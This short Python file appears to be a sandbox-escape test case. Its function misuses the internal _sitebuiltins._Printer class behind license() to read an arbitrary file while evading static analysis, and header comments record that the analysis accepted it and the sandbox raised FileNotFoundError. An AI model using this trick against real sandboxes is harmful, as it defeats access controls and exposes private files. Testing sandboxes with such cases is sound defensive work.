# trick: lets the object behind license() read a file of its choice
# wants: file
# analysis: accepted
# sandbox: FileNotFoundError
import _sitebuiltins


def trick(secret: str) -> str:
    folder, _, name = secret.rpartition("/")
    found = str(_sitebuiltins._Printer("license", "nothing found", [name], [folder]))
    if found == "nothing found":
        raise FileNotFoundError(secret)
    return found
